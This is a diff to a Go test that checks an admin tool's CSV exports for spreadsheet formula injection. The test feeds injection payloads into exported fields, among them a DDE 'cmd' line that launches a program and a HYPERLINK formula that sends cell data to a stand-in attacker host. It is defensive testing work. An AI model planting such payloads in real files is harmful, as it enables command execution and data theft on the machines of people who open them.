@@ -5,11 +5,14 @@ import (
 	"regexp"
 	"slices"
 	"strings"
+	"sync"
 	"testing"
+	"time"
 
 	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
+	"tallyfy-admin/handlers/directory"
 	"tallyfy-admin/handlers/sitetest"
 )
 
@@ -17,21 +20,26 @@ import (
 var formula = regexp.MustCompile(`(^|[;\t\r\n])[\s\x{feff}\x{200b}\x{a0}]*[=+\-@＝＋－＠]`)
 
 func TestNoFileHoldsAFormula(t *testing.T) {
-	for _, attack := range []string{
+	var mu sync.Mutex
+	attack := ""
+	wire := &rewriter{text: func(key, was string) string {
+		if key == "id" || was == "" || strings.HasSuffix(key, "_at") || key == "last_updated" {
+			return was
+		}
+		mu.Lock()
+		defer mu.Unlock()
+		return attack + was
+	}}
+	s := sitetest.New(t, sitetest.Options{Transport: wire, Directory: directory.Options{MaxAge: time.Nanosecond}})
+	wire.next = s.Sandbox.Transport()
+	s.SignIn()
+	for _, next := range []string{
 		"=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b@x", "＝1", "＋1", "－1", "＠x", "x;=1", "x\r\n=1", "x\t=1", "x; \u200b=1",
 		`",=1`, `"&=1`, "';=1", "=HYPERLINK(\"https://evil.example/?\"&A1)", "%0A=1", "|=1",
 	} {
-		wire := &rewriter{text: func(key, was string) string {
-			if key == "id" || was == "" || strings.HasSuffix(key, "_at") || key == "last_updated" {
-				return was
-			}
-			return attack + was
-		}}
-		wire.off.Store(true)
-		s := sitetest.New(t, sitetest.Options{Transport: wire})
-		wire.next = s.Sandbox.Transport()
-		s.SignIn()
-		wire.off.Store(false)
+		mu.Lock()
+		attack = next
+		mu.Unlock()
 		for _, path := range []string{"/groups.csv", "/members.csv", s.GroupPath("Operations") + "/people.csv"} {
 			p := s.Get(path)
 			assert.Equal(t, "text/csv; charset=utf-8", p.Header.Get("Content-Type"))
@@ -43,12 +51,12 @@ func TestNoFileHoldsAFormula(t *testing.T) {
 			require.Greater(t, len(rows), 3, path)
 			hit := 0
 			for _, cell := range slices.Concat(rows[1:]...) {
-				assert.NotRegexp(t, formula, cell, "%s with %q", path, attack)
-				if strings.Contains(strings.NewReplacer("'", "", "\r\n", "", "\n", "").Replace(cell), strings.NewReplacer("'", "", "\r\n", "", "\n", "", "\r", "").Replace(attack)) {
+				assert.NotRegexp(t, formula, cell, "%s with %q", path, next)
+				if strings.Contains(strings.NewReplacer("'", "", "\r\n", "", "\n", "").Replace(cell), strings.NewReplacer("'", "", "\r\n", "", "\n", "", "\r", "").Replace(next)) {
 					hit++
 				}
 			}
-			assert.NotZero(t, hit, "%s does not hold %q", path, attack)
+			assert.NotZero(t, hit, "%s does not hold %q", path, next)
 		}
 	}
 	assert.Regexp(t, formula, "=1") // the question itself is a sharp one
